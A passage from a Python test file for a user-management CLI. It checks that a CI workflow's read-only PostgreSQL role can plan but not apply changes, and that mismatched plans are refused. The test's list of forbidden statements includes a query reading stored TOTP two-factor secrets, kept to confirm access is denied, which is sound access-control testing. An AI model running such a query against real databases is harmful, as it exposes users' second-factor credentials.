    assert _job("apply")["env"]["USERCTL_DATABASE_URL"] == "${{ secrets.USERCTL_DATABASE_URL }}"
    assert _job("apply")["environment"] == "production"
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    assert "USERCTL_DATABASE_URL" not in workflow.get("env", {})


def _read_only_grants() -> list[str]:
    """The PostgreSQL statements the workflow's comment recommends for the plan job's role."""
    lines = WORKFLOW.read_text(encoding="utf-8").splitlines()
    start = (
        next(i for i, line in enumerate(lines) if line.rstrip().endswith("On PostgreSQL, e.g.:"))
        + 1
    )
    statements = []
    for line in lines[start:]:
        if not line.startswith("#     "):
            break
        statements.append(line.removeprefix("#     ").split("  -- ")[0].strip())
    return statements


@pytest.mark.parametrize("backend", ["postgresql"])
def test_the_recommended_read_only_role_can_plan_and_nothing_else(
    db_url: str, factory: Factory, engine: Engine, tmp_path: Path
) -> None:
    org = factory.org("acme-payments")
    admin = factory.role(org, "Admin", ["users.manage"])
    factory.enrol(
        factory.user(
            org, "ana@acme.co", admin, first_name="Ana", status="active", two_factor="required"
        )
    )
    desired = tmp_path / "users.yaml"
    assert Runner(db_url)("export", "-o", str(desired)).exit_code == 0
    desired.write_text(
        desired.read_text(encoding="utf-8").replace("first_name: Ana", "first_name: Anna"),
        encoding="utf-8",
    )

    role = f"userctl_plan_{secrets.token_hex(4)}"
    url = make_url(db_url)
    statements = [
        re.sub(r"\buserctl_plan\b", role, s).replace(
            "ON DATABASE userctl ", f'ON DATABASE "{url.database}" '
        )
        for s in _read_only_grants()
    ]
    assert any(s.startswith("GRANT SELECT ON ALL TABLES") for s in statements)
    with engine.begin() as conn:
        for statement in statements:
            conn.exec_driver_sql(statement)
    read_only_url = url.set(username=role, password=None).render_as_string(hide_password=False)
    try:
        planned = Runner(read_only_url)(
            "plan",
            "-f",
            str(desired),
            "--detailed-exitcode",
            "--out",
            str(tmp_path / "plan.json"),
            "--format",
            "markdown",
        )
        assert planned.exit_code == 2, planned.output
        assert "Anna" in planned.stdout
        read_only = sa.create_engine(read_only_url)
        try:
            for forbidden in (
                "UPDATE users SET first_name = 'x'",
                "SELECT secret FROM totp_secrets",
            ):
                with (
                    pytest.raises(sa.exc.ProgrammingError, match="permission denied"),
                    read_only.begin() as conn,
                ):
                    conn.exec_driver_sql(forbidden)
        finally:
            read_only.dispose()
        applied = Runner(read_only_url)(
            "apply", str(tmp_path / "plan.json"), "--yes", "--operator", "ana@acme.co"
        )
        assert applied.exit_code == 1 and "permission denied" in applied.stderr, applied.output
    finally:
        with engine.begin() as conn:
            conn.exec_driver_sql(f"DROP OWNED BY {role}")
            conn.exec_driver_sql(f"DROP ROLE {role}")


def test_the_apply_step_applies_the_reviewed_plan_and_refuses_one_the_merged_file_does_not_give(
    db_url: str, factory: Factory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The apply step's own command, run as the job runs it (in the checkout, with the artifact
    downloaded next to users.yaml): a plan the merged file gives is applied; a plan from the pull
    request's job that asks for more than the merged file says is refused, nothing written."""
    org = factory.org("acme-payments")
    admin = factory.role(org, "Admin", ["users.view", "users.manage", "users.add"])
    operator = factory.operator(org, "ana@acme.co", admin, first_name="Ana")
    factory.user(org, "bob@acme.co", admin, first_name="Bob")
    run = Runner(db_url)
    monkeypatch.chdir(tmp_path)
    assert run("export", "-o", "users.yaml").exit_code == 0
    merged = Path("users.yaml").read_text(encoding="utf-8")
    apply_step = _step(_job("apply"), "Apply")
    assert apply_step["env"]["USERCTL_FILE"] == "${{ inputs.file }}"
    (line,) = [
        line.strip().replace('"$USERCTL_FILE"', _action()["inputs"]["file"]["default"])
        for line in apply_step["run"].splitlines()
        if line.strip().startswith("userctl ")
    ]
    command = shlex.split(line)[1:]
    monkeypatch.setenv(
        "USERCTL_OPERATOR", operator.email
    )  # the job's env, from the repository variable

    # The pull request's job planned something else than what was merged: bob deleted.
    Path("users.yaml").write_text(
        re.sub(r"  bob@acme.co:.*?(?=\n  \S|\Z)", "", merged, flags=re.S), encoding="utf-8"
    )
    assert run("plan", "-f", "users.yaml", "--out", "plan.json").exit_code == 0
    assert [c["action"] for c in json.loads(Path("plan.json").read_text())["changes"]] == ["delete"]
    Path("users.yaml").write_text(
        merged.replace("first_name: Ana", "first_name: Anna"), encoding="utf-8"
    )
    refused = run(*command, "--otp-code", operator.code())
    assert (
        refused.exit_code == 4 and "does not match users.yaml on this branch" in refused.stderr
    ), refused.output

    assert run("plan", "-f", "users.yaml", "--out", "plan.json").exit_code == 0
    applied = run(*command)
    assert applied.exit_code == 0, applied.output
    assert run("plan", "-f", "users.yaml", "--detailed-exitcode").exit_code == 0
